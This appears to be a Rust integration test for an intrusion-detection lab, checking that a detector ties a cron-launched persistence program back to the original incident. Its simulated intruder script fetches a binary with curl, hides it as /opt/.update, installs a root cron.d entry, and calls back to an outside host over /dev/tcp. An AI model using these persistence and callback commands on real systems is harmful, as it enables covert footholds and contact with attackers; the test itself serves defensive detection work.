//! What an intruder left with a real cron, and what cron makes of it.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use quell_lab::site::{Machine, Site};
use serde_json::Value;

use super::{Attacker, all, attack, incidents};
use crate::{site, until};

const CRON: &str = "/usr/sbin/cron";
/// Cron looks for new tables, and begins what is due, once a minute; the rest is for a busy machine.
const LIMIT: Duration = Duration::from_secs(150);

/// Fetches a program and has cron run it, with what it needs to know; then shows itself. Names with a dot are passed over by cron.
const LEAVE: &str = "\
curl -s -o /opt/.update http://$WEB/update
chmod +x /opt/.update
mkdir -p /etc/cron.d
printf 'OUTSIDE=%s\\nCATCH=%s\\nWHEN root /opt/.update\\n' $OUTSIDE $CATCH > /etc/cron.d/update
bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo first >&5; exec 5>&-\"
";
const LEFT: &str = "\
#!/bin/sh
bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo again >&5; exec 5>&-\"
";

/// What the daemon wants of a machine.
fn furnish(machine: &Machine) {
    let of = |path: &str| machine.endpoint.path(path);
    std::fs::create_dir_all(of("/etc/pam.d")).unwrap();
    std::fs::create_dir_all(of("/var/spool/cron/crontabs")).unwrap();
    if !of("/var/run").exists() {
        std::os::unix::fs::symlink("../run", of("/var/run")).unwrap();
    }
    let anybody =
        ["auth", "account", "session"].map(|kind| format!("{kind} required pam_permit.so\n")).concat();
    std::fs::write(of("/etc/pam.d/cron"), anybody).unwrap();
}

fn start(machine: &Machine) -> quell_lab::Child {
    let mut command = machine.endpoint.command(CRON);
    command.arg("-f").stdout(Stdio::null()).stderr(Stdio::null());
    machine.endpoint.spawn_command(command).unwrap()
}

/// The programs from what was left up to the first of its chain.
fn above(site: &Site, incident: &str) -> Option<Vec<String>> {
    let chain = site.api.get(&format!("/incidents/{incident}/chain")).unwrap().good().unwrap();
    let key = |value: &Value| Some((value["pid"].as_u64()?, value["start"].as_u64()?));
    let processes: BTreeMap<_, &Value> =
        chain["processes"].as_array()?.iter().filter_map(|process| Some((key(process)?, process))).collect();
    let is_left = |process: &&&Value| process["image"]["script"]["path"] == "/opt/.update";
    let left = processes.values().copied().find(|process| is_left(&process))?;
    let up = std::iter::successors(Some(left), |process| processes.get(&key(&process["parent"])?).copied());
    Some(up.map(|process| process["image"]["path"].as_str().unwrap_or_default().to_owned()).collect())
}

/// Whether the daemon runs before it is given something to do.
fn is_run_by_cron(when: &str, is_running: bool) {
    if !Path::new(CRON).exists() {
        println!("skipped: cron is not installed");
        return;
    }
    let Some(site) = site() else { return };
    let web = site.watched("web-1").unwrap();
    let attacker = Attacker::of(&site);
    attacker.web.put("/update", LEFT);
    furnish(&web);
    let running = is_running.then(|| start(&web));
    drop(attack(&site, &web, &LEAVE.replace("WHEN", when)));
    until("an incident", || incidents(&site).len() == 1);
    let first = incidents(&site).pop_first().unwrap();
    let began = Instant::now();
    let cron = running.unwrap_or_else(|| start(&web));
    while !attacker.has_heard("again") {
        assert!(began.elapsed() < LIMIT && cron.running(), "cron has not run what was left");
        std::thread::sleep(Duration::from_millis(50));
    }
    let joined = || {
        let found = all(&site, &format!("/detections?incident={first}"));
        let why = found.iter().filter_map(|one| one["joined"].as_str());
        why.filter(|why| why.contains("/opt/.update")).map(str::to_owned).next()
    };
    until("what cron ran", || joined().is_some());
    until("who ran it", || above(&site, &first).is_some_and(|above| above.len() > 1));
    let above = above(&site, &first).unwrap();
    // Of the daemon itself, that of its processes which it made for this job.
    assert_eq!(above.last().map(String::as_str), Some(CRON), "{above:?}");
    until("one incident", || all(&site, "/incidents?state=open,in_progress").len() == 1);
    println!("cron ran it after {:?}: {above:?}; {}", began.elapsed(), joined().unwrap_or_default());
    cron.kill().unwrap();
}

#[test]
fn what_was_left_with_cron_for_the_next_start_is_of_the_same_incident() {
    is_run_by_cron("@reboot", false);
}

#[test]
#[ignore = "two minutes, since cron looks once in one; part of `cargo xtask test --nightly`"]
fn what_was_left_with_cron_for_each_minute_is_of_the_same_incident() {
    is_run_by_cron("* * * * *", true);
}
